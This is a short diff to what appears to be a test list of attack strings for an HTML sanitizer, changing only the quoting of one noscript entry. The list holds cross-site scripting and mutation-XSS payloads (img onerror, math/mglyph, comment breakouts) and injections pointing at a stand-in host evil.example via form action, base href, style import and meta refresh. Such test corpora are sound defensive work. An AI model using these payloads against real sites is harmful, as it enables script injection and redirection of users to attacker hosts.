@@ -16,7 +16,7 @@ ATTACKS = [
     "<form action=//evil.example><input></form>",
     "<style>@import '//evil.example'</style>",
     "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
     "<!--><img src=x onerror=alert(1)>-->",
     '<base href="//evil.example/">',
     '<meta http-equiv="refresh" content="0;url=//evil.example">',
